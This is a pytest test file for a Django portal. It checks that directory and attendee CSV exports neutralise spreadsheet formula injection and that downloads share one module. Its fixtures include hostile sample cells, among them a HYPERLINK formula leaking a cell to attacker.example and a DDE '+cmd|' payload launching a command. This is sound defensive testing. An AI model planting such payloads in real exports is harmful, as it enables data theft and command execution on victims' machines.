"""Attack: text that a spreadsheet runs as a formula (=HYPERLINK, @SUM, +cmd|...), written into
a directory entry or an account's name, runs on the machine of whoever opens the export."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils.http import content_disposition_header

from crimex_portal.accounts import roles
from crimex_portal.downloads import neutralise_formula
from sessions.models import Session
from tests.factories import (
    ActionPlanFactory,
    ContactFactory,
    RegistrationFactory,
    UserFactory,
    log_in_with_two_factor,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
DDE = "+cmd|' /C calc'!A0"
PHONE = "+212 522 123456"


def csv_cells(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def coordinator_client(client):
    log_in_with_two_factor(client, UserFactory(roles=[roles.COORDINATOR], two_factor=True))
    return client


def test_directory_csv_neutralises_formulas_and_keeps_phone_numbers(
    coordinator_client, pgos, morocco
):
    contact = ContactFactory(
        name_en=HYPERLINK,
        title="@SUM(1+1)",
        function_en=DDE,
        organisation=pgos,
        country=morocco,
        phone=PHONE,
        mobile="-1+cmd|' /C calc'!A0",
    )

    rows = csv_cells(
        coordinator_client.get(reverse("directory:search_csv"), {"q": contact.name[:30]})
    )

    header, row = rows[0], next(row for row in rows[1:] if row[0].endswith(HYPERLINK))
    cells = dict(zip(header, row, strict=True))
    assert cells["Name"] == f"'{HYPERLINK}"
    assert cells["Title"] == "'@SUM(1+1)"
    assert cells["Function"] == f"'{DDE}"
    assert cells["Mobile"] == "'-1+cmd|' /C calc'!A0"
    assert cells["Phone"] == PHONE  # a phone number runs nothing: it stays as written


def test_attendee_csv_neutralises_formulas(client, seeded):
    session = Session.objects.get(number=5)
    attacker = UserFactory(last_name=HYPERLINK[:150], first_name="@SUM(A1)", email="a@x.invalid")
    RegistrationFactory(session=session, user=attacker)
    log_in_with_two_factor(
        client, UserFactory(roles=[roles.PMT_STAFF], is_staff=True, two_factor=True)
    )

    rows = csv_cells(client.get(reverse("crimex_sessions:attendees_csv", args=[session.pk])))

    row = next(row for row in rows if row[2] == "a@x.invalid")
    assert row[0] == f"'{HYPERLINK[:150]}"
    assert row[1] == "'@SUM(A1)"


@pytest.mark.parametrize(
    "dangerous", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "+1+cmd|x", "+33 (0)1 HYPERLINK"]
)
def test_formula_starts_are_neutralised(dangerous):
    assert neutralise_formula(dangerous) == f"'{dangerous}"


@pytest.mark.parametrize(
    "plain", [PHONE, "+216 71-123-456", "+33 (0)1 23 45 67 89", "A normal narrative", "", "1-2"]
)
def test_plain_text_and_phone_numbers_stay_as_written(plain):
    assert neutralise_formula(plain) == plain


def test_the_action_plan_export_names_its_file_with_django_s_header(coordinator_client):
    """A plan code typed by PMT staff cannot break the header (quotes, non-ASCII letters)."""
    plan = ActionPlanFactory(code='É"1')
    response = coordinator_client.get(reverse("actionplans:export", args=[plan.code, "csv"]))
    assert response["Content-Disposition"] == content_disposition_header(
        True, f"crimex-action-plan-{plan.code}.csv"
    )
    assert response["Cache-Control"] == "private, no-store"


# The one module that writes CSV cells and attachment headers for the whole portal.
SHARED = Path(settings.BASE_DIR, "crimex_portal", "downloads.py")
PORTAL_CODE = ["crimex_portal", "directory", "sessions", "actionplans", "fiches"]


def portal_python_files() -> list[Path]:
    return [
        path
        for folder in PORTAL_CODE
        for path in Path(settings.BASE_DIR, folder).rglob("*.py")
        if "migrations" not in path.parts and path != SHARED
    ]


def test_every_csv_and_every_attachment_header_goes_through_the_shared_module():
    offenders = [
        str(path.relative_to(settings.BASE_DIR))
        for path in portal_python_files()
        if re.search(r"csv\.writer\(|\[\s*[\"']Content-Disposition[\"']\s*\]\s*=", path.read_text())
    ]
    assert offenders == []
